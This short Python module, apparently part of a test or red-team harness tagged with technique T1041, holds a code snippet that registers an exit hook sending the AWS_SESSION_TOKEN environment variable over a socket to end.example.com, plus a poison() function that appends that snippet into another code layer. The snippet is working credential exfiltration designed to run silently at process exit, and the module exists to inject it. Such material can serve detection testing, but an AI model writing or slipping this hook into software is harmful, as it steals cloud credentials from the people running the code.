# SPDX-License-Identifier: Apache-2.0
"""Sends credentials when the process ends."""

ATTACK = "T1041"
LANGUAGE = "python"
CODE = """\
import atexit as _atexit


def _flush():
    import os
    import socket

    with socket.create_connection(("end.example.com", 443), 1) as s:
        s.sendall(os.getenv("AWS_SESSION_TOKEN", "").encode())


_atexit.register(_flush)
"""


def poison(layer):
    layer.append(CODE)
